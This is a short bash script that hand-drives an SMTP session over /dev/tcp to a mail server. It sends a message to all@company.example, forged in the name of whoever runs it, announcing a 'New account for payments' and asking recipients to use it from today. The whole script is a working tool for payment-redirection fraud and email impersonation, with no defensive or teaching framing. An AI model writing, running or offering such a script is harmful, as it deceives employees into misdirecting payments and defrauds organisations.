# A message in the name of whoever started this.
exec 3<>/dev/tcp/203.0.113.25/25 || exit 1
say() {
    printf '%s\r\n' "$1" >&3
    read -r -t 2 answer <&3
}
read -r -t 2 answer <&3
say "HELO $HOSTNAME"
say "MAIL FROM:<$(id -un)@company.example>"
say "RCPT TO:<all@company.example>"
say "DATA"
printf 'Subject: New account for payments\r\n\r\nPlease use it from today.\r\n' >&3
say "."
echo "mail: $answer"
